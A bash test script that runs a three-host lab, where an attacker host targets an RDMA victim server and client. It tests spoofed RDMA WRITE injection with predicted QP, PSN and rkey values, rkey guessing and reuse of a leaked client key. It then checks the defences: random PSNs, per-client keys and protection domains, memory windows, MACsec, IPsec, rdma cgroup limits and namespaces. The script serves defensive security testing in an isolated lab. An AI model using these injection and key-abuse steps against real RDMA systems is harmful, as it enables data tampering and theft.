# Runs on the three hosts of `lab.sh --hosts 3` for tests/security/attacks.sh: one world after
# another, each with a fresh victim. Host 1 runs rdma-victim's server, host 2 its legitimate
# client, host 3 the attacker: it connects to the victim as any client may (rdma-attack probe),
# predicts the next client's QP, slot and rkey from what that showed, and — once the client is
# connected and before it writes — puts one hand-made RDMA WRITE on its own link, claiming to be
# host 2. Worlds (WORLD: client's PSNs, server's keys, the rkey the attacker sends):
#   inject       zero, shared, the predicted one    the write lands; the client's is lost
#   random-psn   random, shared, the predicted one  the write is dropped: not the PSN expected
#   bad-rkey     zero, shared, one bit off          one packet: the victim's QP goes to ERR
#   keys-per-client  zero, per-client, its own      the write is refused, the QP goes to ERR
# Then the keys themselves, with no spoofing: the attacker is a client like any other and uses a
# key it was never given (WORLD: the server's keys, PD, secret; what the attacker does):
#   guess            shared, shared, remote-read    tries keys below its own until the secret
#                                                   reads (every wrong try costs a connection)
#   least-privilege  shared, shared, local          READs the secret with the key it would have
#                                                   had (its lkey; its rkey is 0): refused
#   stolen-key       per-client, shared, none       WRITEs client 1's slot with client 1's key
#                                                   (leaked: read from the client's output)
#   pd-per-client    per-client, per-client, none   the same: refused (another PD's key)
#   window           window, shared, none           the same: refused (the window was bound to
#                                                   client 1's QP and invalidated when it was done)
# Outputs in OUT_DIR/WORLD/: victim.out, client.out, probe.txt, attack.out, *.rc. Then, on host
# 2 alone, what keeps tenants apart (OUT_DIR/tenants/): the rdma cgroup's limit refusing the
# objects past it, and what a network namespace sees of Soft-RoCE devices.
#   tests/security/worlds.sh BUILD_BIN_DIR OUT_DIR
set -uo pipefail
bin=${1:?usage: worlds.sh BUILD_BIN_DIR OUT_DIR}
out=${2:?usage: worlds.sh BUILD_BIN_DIR OUT_DIR}

# wait_for FILE [SECONDS]: at most SECONDS (60).
wait_for() {
    local tick
    for ((tick = 0; tick < ${2:-60} * 10; tick++)); do [ -e "$1" ] && return 0; sleep 0.1; done
    return 1
}

n=0
for spec in inject:zero:shared:0 random-psn:random:shared:0 bad-rkey:zero:shared:1 \
    keys-per-client:zero:per-client:0; do
    IFS=: read -r world psn keys rkey_flip <<<"$spec"
    n=$((n + 1))
    port=$((18600 + n))
    dir=$out/$world
    mkdir -p "$dir"
    case $RDMALAB_HOST in
        1)
            # Its waits (for a client, for a done message) outlast the attacker's work in the
            # middle of a world; the client's --timeout bounds only its RDMA operations.
            timeout -k 2 200 "$bin/rdma-victim" server --clients 2 --keys "$keys" --port "$port" \
                --timeout 90 >"$dir/victim.out" 2>&1
            echo $? >"$dir/victim.rc" ;;
        3)
            # A connection the victim refuses (it is not listening yet) is tried again until
            # the tool's timeout.
            timeout -k 2 40 "$bin/rdma-attack" probe --server "$RDMALAB_ADDR_1" --port "$port" \
                >"$dir/probe.txt" 2>"$dir/probe.err"
            echo $? >"$dir/probe.rc"
            touch "$dir/probed"
            wait_for "$dir/ready"
            field() { sed -n "s/^$1=//p" "$dir/probe.txt"; }
            rkey=$(($(field slot_rkey) ^ rkey_flip))
            timeout -k 2 20 "$bin/rdma-attack" inject-write --interface eth0 \
                --victim "$RDMALAB_ADDR_1" --victim-mac "$(field victim_mac)" \
                --spoof "$RDMALAB_ADDR_2" --qpn "$(field next_qpn)" --psn 0 \
                --address "$(field next_slot_address)" --rkey "$rkey" \
                --text "INJECTED by host 3" >"$dir/attack.out" 2>&1
            echo $? >"$dir/attack.rc"
            sleep 1   # the frame crosses the bridge and the victim acts on it
            touch "$dir/go" ;;
        2)
            wait_for "$dir/probed"
            timeout -k 2 150 "$bin/rdma-victim" client --server "$RDMALAB_ADDR_1" --port "$port" \
                --psn "$psn" --ready-file "$dir/ready" --go-file "$dir/go" --timeout 8 \
                >"$dir/client.out" 2>&1
            echo $? >"$dir/client.rc" ;;
    esac
    # Every host leaves the world before the next begins.
    touch "$dir/left-$RDMALAB_HOST"
    for h in 1 2 3; do wait_for "$dir/left-$h" 240; done
done

for spec in guess:shared:shared:remote-read least-privilege:shared:shared:local \
    stolen-key:per-client:shared:none pd-per-client:per-client:per-client:none \
    window:window:shared:none; do
    IFS=: read -r world keys pd secret <<<"$spec"
    n=$((n + 1))
    port=$((18600 + n))
    dir=$out/$world
    mkdir -p "$dir"
    case $world in guess) clients=600 ;; least-privilege) clients=1 ;; *) clients=2 ;; esac
    case $RDMALAB_HOST in
        1)
            timeout -k 2 400 "$bin/rdma-victim" server --clients "$clients" --keys "$keys" \
                --pd "$pd" --secret "$secret" --idle 10 --port "$port" --timeout 20 \
                >"$dir/victim.out" 2>&1
            echo $? >"$dir/victim.rc" ;;
        2)
            case $world in stolen-key | pd-per-client | window)
                timeout -k 2 60 "$bin/rdma-victim" client --server "$RDMALAB_ADDR_1" \
                    --port "$port" --psn random --timeout 20 >"$dir/client.out" 2>&1
                echo $? >"$dir/client.rc"
            esac
            touch "$dir/client-done" ;;
        3)
            case $world in
                guess)
                    timeout -k 2 400 "$bin/rdma-attack" guess-rkey --server "$RDMALAB_ADDR_1" \
                        --port "$port" --below-slot 64 --indices 2 >"$dir/attack.out" 2>"$dir/attack.err" ;;
                least-privilege)
                    # The luckiest guess there is: the key the registration would have had with
                    # remote access (its lkey: rxe's rkey then equals it), read from the victim.
                    wait_for "$dir/victim.out"
                    for ((tick = 0; tick < 300; tick++)); do
                        grep -q '^victim: listening' "$dir/victim.out" && break
                        sleep 0.1
                    done
                    secret=$(sed -n 's/^victim: secret at \(0x[0-9a-f]*\), rkey 0x[0-9a-f]*, lkey \(0x[0-9a-f]*\),.*/\1 \2/p' "$dir/victim.out")
                    timeout -k 2 60 "$bin/rdma-attack" read --server "$RDMALAB_ADDR_1" --port "$port" \
                        --address "${secret% *}" --rkey "${secret#* }" >"$dir/attack.out" 2>"$dir/attack.err" ;;
                *)
                    # Client 1's key, leaked: read from its output once it is done.
                    wait_for "$dir/client-done" 90
                    given=$(sed -n 's/^client: connected .*; my slot \(0x[0-9a-f]*\), rkey \(0x[0-9a-f]*\)$/\1 \2/p' "$dir/client.out")
                    timeout -k 2 60 "$bin/rdma-attack" write --server "$RDMALAB_ADDR_1" --port "$port" \
                        --address "${given% *}" --rkey "${given#* }" --text "OVERWRITTEN by host 3" \
                        >"$dir/attack.out" 2>"$dir/attack.err" ;;
            esac
            echo $? >"$dir/attack.rc" ;;
    esac
    touch "$dir/left-$RDMALAB_HOST"
    for h in 1 2 3; do wait_for "$dir/left-$h" 420; done
done

# Encryption of the link, with rxe above it. Hosts 1 and 2 encrypt what passes between them:
# MACsec (rxe on the macsec device, the address moved onto it) or IPsec ESP in transport mode
# (rxe unchanged; a policy that requires ESP both ways). The attacker knows every number — the
# client's QP, its PSN (0), slot and key, read from the client's output — and injects the same
# WRITE as in the inject world: it lands on neither. Captures: host 2's link carries only
# MACsec or ESP frames. The guests' kernel asks for crypto modules on demand (the ESP state's
# algorithm) through /proc/sys/kernel/modprobe, which the initramfs root lacks: it is pointed at
# the host root's modprobe for these worlds.
lower=eth0
[ -e /sys/class/net/br0 ] && lower=br0   # host 1, the star's centre, has its address on br0
key_1to2=0x0123456789abcdef0123456789abcdef01234567   # AES-128 key and 4-byte salt (RFC 4106)
key_2to1=0x89abcdef0123456789abcdef0123456789abcdef
if [ "$RDMALAB_HOST" != 3 ]; then
    other=$((3 - RDMALAB_HOST))
    printf '#!/bin/sh\nexec /bin/chroot /host /sbin/modprobe "$@"\n' >/proc/1/root/lab/modprobe-host
    chmod +x /proc/1/root/lab/modprobe-host
    saved_modprobe=$(cat /proc/sys/kernel/modprobe)
    echo /lab/modprobe-host >/proc/sys/kernel/modprobe
    modprobe -a macsec esp4 xfrm_user 2>"$out/modprobe-$RDMALAB_HOST.err"
fi
for world in macsec ipsec; do
    n=$((n + 1))
    port=$((18600 + n))
    dir=$out/$world
    mkdir -p "$dir"
    me=198.51.100.$RDMALAB_HOST
    if [ "$RDMALAB_HOST" != 3 ]; then
        cat "/sys/class/net/$lower/address" >"$dir/mac-$RDMALAB_HOST"
        wait_for "$dir/mac-$other"
        if [ $world = macsec ]; then
            # A secure channel each way, GCM-AES-128; the peer's channel named by its address.
            ours=00112233445566778899aabbccddee0$RDMALAB_HOST
            theirs=00112233445566778899aabbccddee0$other
            {
                ip link add link "$lower" macsec0 type macsec encrypt on &&
                    ip macsec add macsec0 tx sa 0 pn 1 on key 01 "$ours" &&
                    ip macsec add macsec0 rx port 1 address "$(cat "$dir/mac-$other")" &&
                    ip macsec add macsec0 rx port 1 address "$(cat "$dir/mac-$other")" sa 0 pn 1 on key 02 "$theirs" &&
                    ip link set macsec0 up && ip addr del "$me/24" dev "$lower" &&
                    ip addr add "$me/24" dev macsec0 && rdma link delete rxe0 &&
                    rdma link add rxe0 type rxe netdev macsec0
            } >"$dir/setup-$RDMALAB_HOST.out" 2>&1
        else
            {
                ip xfrm state add src 198.51.100.1 dst 198.51.100.2 proto esp spi 0x101 reqid 1 \
                    mode transport aead 'rfc4106(gcm(aes))' $key_1to2 128 &&
                    ip xfrm state add src 198.51.100.2 dst 198.51.100.1 proto esp spi 0x102 reqid 2 \
                        mode transport aead 'rfc4106(gcm(aes))' $key_2to1 128 &&
                    ip xfrm policy add src "$me" dst "198.51.100.$other" dir out \
                        tmpl proto esp mode transport reqid "$RDMALAB_HOST" level required &&
                    ip xfrm policy add src "198.51.100.$other" dst "$me" dir in \
                        tmpl proto esp mode transport reqid "$other" level required
            } >"$dir/setup-$RDMALAB_HOST.out" 2>&1
        fi
        echo $? >"$dir/setup-$RDMALAB_HOST.rc"
        touch "$dir/set-$RDMALAB_HOST"
        wait_for "$dir/set-$other"
    fi
    case $RDMALAB_HOST in
        1)
            timeout -k 2 200 "$bin/rdma-victim" server --clients 1 --port "$port" --timeout 90 \
                >"$dir/victim.out" 2>&1
            echo $? >"$dir/victim.rc" ;;
        2)
            timeout -k 2 150 "$bin/rdma-victim" client --server 198.51.100.1 --port "$port" \
                --psn zero --ready-file "$dir/ready" --go-file "$dir/go" --timeout 20 \
                >"$dir/client.out" 2>&1
            echo $? >"$dir/client.rc" ;;
        3)
            wait_for "$dir/ready" 120
            field() { sed -n "s/^client: connected to QP \(0x[0-9a-f]*\);.*; my slot \(0x[0-9a-f]*\), rkey \(0x[0-9a-f]*\)$/\\$1/p" "$dir/client.out"; }
            timeout -k 2 20 "$bin/rdma-attack" inject-write --interface eth0 --victim 198.51.100.1 \
                --victim-mac "$(cat "$dir/mac-1")" --spoof 198.51.100.2 --qpn "$(field 1)" --psn 0 \
                --address "$(field 2)" --rkey "$(field 3)" --text "INJECTED by host 3" \
                >"$dir/attack.out" 2>&1
            echo $? >"$dir/attack.rc"
            sleep 1
            touch "$dir/go" ;;
    esac
    # What each defence counted: MACsec's frames without a SecTAG, IPsec's packets that its
    # inbound policy refused (XfrmInTmplMismatch, XfrmInNoPols).
    [ $world = macsec ] && ip -s macsec show >"$dir/stats-$RDMALAB_HOST.txt" 2>&1
    [ $world = ipsec ] && cat /proc/net/xfrm_stat >"$dir/stats-$RDMALAB_HOST.txt" 2>&1
    touch "$dir/left-$RDMALAB_HOST"
    for h in 1 2 3; do wait_for "$dir/left-$h" 240; done
    # Back to the plain link.
    if [ "$RDMALAB_HOST" != 3 ] && [ $world = macsec ]; then
        rdma link delete rxe0
        ip link del macsec0
        ip addr add "$me/24" dev "$lower"
        rdma link add rxe0 type rxe netdev "$lower"
    elif [ "$RDMALAB_HOST" != 3 ]; then
        ip xfrm policy flush
        ip xfrm state flush
    fi >/dev/null 2>&1
    touch "$dir/plain-$RDMALAB_HOST"
    for h in 1 2 3; do wait_for "$dir/plain-$h" 60; done
done
[ -n "${saved_modprobe:-}" ] && echo "$saved_modprobe" >/proc/sys/kernel/modprobe

[ "$RDMALAB_HOST" = 2 ] || exit 0
dir=$out/tenants
mkdir -p "$dir"
# The rdma cgroup (cgroup v2): a group allowed one device handle and one object (a PD) on rxe0;
# rdma-victim's server, started in it, allocates a PD and then registers its pool: refused.
mkdir -p /sys/fs/cgroup
mountpoint -q /sys/fs/cgroup || mount -t cgroup2 none /sys/fs/cgroup
echo +rdma >/sys/fs/cgroup/cgroup.subtree_control
mkdir -p /sys/fs/cgroup/tenant
echo "rxe0 hca_handle=1 hca_object=1" >/sys/fs/cgroup/tenant/rdma.max
cat /sys/fs/cgroup/tenant/rdma.max >"$dir/rdma.max"
sh -c 'echo $$ >/sys/fs/cgroup/tenant/cgroup.procs; exec timeout -k 2 20 "$0" server --clients 1 --port 18700 --timeout 2' \
    "$bin/rdma-victim" >"$dir/limited.out" 2>&1
echo $? >"$dir/limited.rc"
# Network namespaces. In the subsystem's default mode (shared) every namespace sees every RDMA
# device, the host's rxe0 included. An rxe device cannot be moved into a namespace, and one made
# from inside a namespace still belongs to the initial one. Exclusive mode (settable only while
# no other namespace exists) hides the initial namespace's devices: the namespace sees none.
rdma system show >"$dir/mode-shared.txt" 2>&1
ip netns add tenant
ip netns exec tenant rdma dev >"$dir/shared-tenant-sees.txt" 2>&1
rdma dev set rxe0 netns tenant >"$dir/move.out" 2>&1
echo $? >"$dir/move.rc"
ip link add tenant0 type veth peer name tenant1
ip link set tenant1 netns tenant
ip netns exec tenant ip link set tenant1 up
ip netns exec tenant rdma link add rxe_tenant type rxe netdev tenant1 >"$dir/add.out" 2>&1
echo $? >"$dir/add.rc"
rdma dev >"$dir/root-sees.txt" 2>&1
ip netns exec tenant rdma link delete rxe_tenant >/dev/null 2>&1 || rdma link delete rxe_tenant >/dev/null 2>&1
ip netns delete tenant
rdma system set netns exclusive >"$dir/exclusive.out" 2>&1
rdma system show >"$dir/mode-exclusive.txt" 2>&1
ip netns add tenant
ip netns exec tenant rdma dev >"$dir/exclusive-tenant-sees.txt" 2>&1
ip netns delete tenant
rdma system set netns shared >/dev/null 2>&1
exit 0
